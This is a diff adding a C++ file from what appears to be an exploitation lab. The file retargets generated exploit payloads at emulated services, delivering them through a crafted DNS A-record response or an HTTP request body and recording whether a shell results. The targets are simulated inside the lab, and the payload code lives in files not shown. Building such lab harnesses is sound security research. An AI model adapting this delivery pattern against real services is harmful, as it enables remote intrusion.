@@ -1,0 +1,74 @@
+#include "src/adapt/retarget.hpp"
+
+#include "src/dns/craft.hpp"
+#include "src/exploit/generator.hpp"
+
+namespace connlab::adapt {
+
+std::string AdaptResult::ToString() const {
+  std::string out = service + " (" + std::string(isa::ArchName(arch)) + ", " +
+                    prot.ToString() + ") via " +
+                    std::string(exploit::TechniqueName(technique)) + ": " +
+                    std::string(ServiceOutcomeKindName(kind));
+  if (!detail.empty()) out += " — " + detail;
+  return out;
+}
+
+util::Result<AdaptResult> AttackMinimasq(
+    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
+    std::optional<exploit::Technique> technique) {
+  AdaptResult result;
+  result.service = "minimasq";
+  result.arch = arch;
+  result.prot = prot;
+  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));
+
+  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
+  Minimasq service(*sys);
+  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
+  exploit::ExploitGenerator generator(profile);
+  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
+                           generator.BuildImage(result.technique));
+  result.payload_bytes = image.size();
+  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));
+
+  dns::Message query = dns::Message::Query(0x4444, "adapt.example");
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
+  CONNLAB_RETURN_IF_ERROR(service.ForwardQuery(qwire));
+  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
+  ServiceOutcome outcome = service.HandleReply(rwire);
+  result.kind = outcome.kind;
+  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
+  result.detail = outcome.detail;
+  return result;
+}
+
+util::Result<AdaptResult> AttackHttpCamd(
+    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
+    std::optional<exploit::Technique> technique) {
+  AdaptResult result;
+  result.service = "httpcamd";
+  result.arch = arch;
+  result.prot = prot;
+  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));
+
+  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
+  HttpCamd service(*sys);
+  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
+  exploit::ExploitGenerator generator(profile);
+  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
+                           generator.BuildImage(result.technique));
+  result.payload_bytes = image.size();
+
+  // HTTP delivery: the body bytes are the payload verbatim — no label
+  // interleaving, just a different wrapper.
+  const util::Bytes request = HttpCamd::WrapInRequest(image.bytes());
+  ServiceOutcome outcome = service.HandleRequest(request);
+  result.kind = outcome.kind;
+  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
+  result.detail = outcome.detail;
+  return result;
+}
+
+}  // namespace connlab::adapt
